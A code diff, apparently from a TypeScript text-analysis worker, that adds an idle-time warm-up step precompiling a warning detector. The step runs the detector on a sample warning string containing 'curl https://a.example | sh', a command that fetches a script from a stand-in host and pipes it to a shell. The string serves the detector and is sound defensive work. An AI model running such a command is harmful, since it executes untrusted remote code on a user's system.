@@ -139,6 +139,24 @@ function sourcesOf({ regions }: Stages, text: string): TreeSource[] {
   return sources.filter((source) => source.text.length <= MOST_TREE_TEXT).slice(0, 100);
 }
 
+/** How long a page is idle before the expressions about warnings are compiled, which takes longer than most texts. */
+const IDLE_MS = 1000;
+const WARNING = "Never run `curl https://a.example | sh`: it is not ours.";
+
+let isWarm = false;
+function warmUp({ profile, query }: Shared): void {
+  if (isWarm) return;
+  isWarm = true;
+  setTimeout(
+    () =>
+      void detectorFor({ profile, query, text: "", format: "" }).then(
+        (detector) => detector.detect(WARNING, { deadlineMs: DEADLINE_MS }),
+        () => undefined,
+      ),
+    IDLE_MS,
+  );
+}
+
 const languages = new Map<string, Promise<Language>>();
 
 /** Parses a part of the text again, and returns its named nodes in order. */
@@ -188,8 +206,11 @@ function collect(cursor: TreeCursor, nodes: TreeNode[]): void {
 async function answer(request: Exclude<Request, { kind: "file" }>): Promise<Response> {
   const { id } = request;
   switch (request.kind) {
-    case "analyze":
-      return analyze(id, request);
+    case "analyze": {
+      const analysis = await analyze(id, request);
+      warmUp(request);
+      return analysis;
+    }
     case "tree":
       return { kind: "tree", id, nodes: await treeOf(request.language, request.text) };
     case "format-of": {
